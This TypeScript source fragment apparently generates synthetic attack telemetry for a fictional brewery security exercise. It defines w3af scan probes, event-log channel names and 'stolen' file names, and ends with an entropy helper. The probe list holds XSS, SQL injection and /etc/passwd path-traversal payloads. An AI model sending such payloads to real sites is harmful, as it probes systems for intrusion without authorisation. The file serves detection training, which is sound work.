const SCAN_ALERT: AlertSpec = { sid: 2011028, signature: "ET SCAN w3af User Agent", category: "Web Application Attack", severity: 1 };

const W3AF_PROBES: { uri: string; status?: number; form?: string; alert?: AlertSpec }[] = [
  { uri: "/", status: 200, alert: SCAN_ALERT },
  { uri: "/robots.txt", status: 200 },
  { uri: "/admin/index.php", status: 200 },
  { uri: "/.git/config" },
  { uri: "/backup.zip" },
  { uri: "/phpinfo.php" },
  { uri: "/install/index.php", status: 403 },
  { uri: "/search.php?keywords=<script>alert(1)</script>&action=do_search", status: 200, alert: XSS_ALERT },
  { uri: "/member.php?action=profile&uid=%3Cimg%20src=x%20onerror=alert(1)%3E", status: 200 },
  { uri: "/newreply.php?tid=12&processed=1", status: 200, form: 'subject=RE: hops&message=<img src=x onerror=alert(1)>&my_post_key=4f1e0c2b' },
  { uri: "/showthread.php?tid=1'", status: 500 },
  { uri: "/forumdisplay.php?fid=2+UNION+SELECT+1,2,3--", status: 500, alert: SQLI_ALERT },
  { uri: "/misc.php?action=help&hid=<script>alert(document.domain)</script>", status: 200, alert: XSS_ALERT },
  { uri: "/member.php?action=login", status: 200 },
  { uri: "/member.php?action=register", status: 200, form: "username=w3af<script>alert(1)</script>&password=w3af&email=w3af@w3af.org" },
  { uri: "/calendar.php?action=event&eid=../../../../etc/passwd" },
  { uri: "/xmlrpc.php" },
  { uri: "/wp-login.php" },
];

const WEVTUTIL_CHANNELS = [
  "Analytic", "Application", "DirectShowFilterGraph", "DirectShowPluginControl", "EndpointMapper", "ForwardedEvents", "HardwareEvents", "Internet Explorer",
  "Key Management Service", "MF_MediaFoundationDeviceProxy", "Microsoft-Windows-AppLocker/EXE and DLL", "Microsoft-Windows-Bits-Client/Operational",
  "Microsoft-Windows-DeviceGuard/Operational", "Microsoft-Windows-Diagnosis-DPS/Operational", "Microsoft-Windows-Dhcp-Client/Admin",
  "Microsoft-Windows-GroupPolicy/Operational", "Microsoft-Windows-Kernel-PnP/Configuration", "Microsoft-Windows-Kernel-Process/Analytic",
  "Microsoft-Windows-Kernel-Processor-Power/Diagnostic", "Microsoft-Windows-NetworkProfile/Operational", "Microsoft-Windows-NTLM/Operational",
  "Microsoft-Windows-PowerShell/Admin", "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PrintService/Admin",
  "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", "Microsoft-Windows-SMBClient/Operational", "Microsoft-Windows-TaskScheduler/Operational",
  "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "Microsoft-Windows-Windows Defender/Operational",
  "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall", "Microsoft-Windows-WinRM/Operational", "Microsoft-Windows-WMI-Activity/Operational",
  "Setup", "System", "Windows PowerShell", "Microsoft-Windows-Sysmon/Operational", "Security",
];

const STOLEN_FILES = [
  "Frothly_recipe_#.docx", "brewing_schedule_#.xlsx", "hop_contracts_#.pdf", "supplier_list_#.csv", "Saccharomyces_notes_#.docx", "payroll_#.xlsx", "customer_db_#.sql",
];

/** Shannon entropy (bits per character) of a string. */
export function shannon(s: string): number {
  const counts = new Map<string, number>();
  for (const c of s) counts.set(c, (counts.get(c) ?? 0) + 1);
  let e = 0;
  for (const n of counts.values()) {
    const p = n / s.length;
    e -= p * Math.log2(p);
  }
  return e;
}
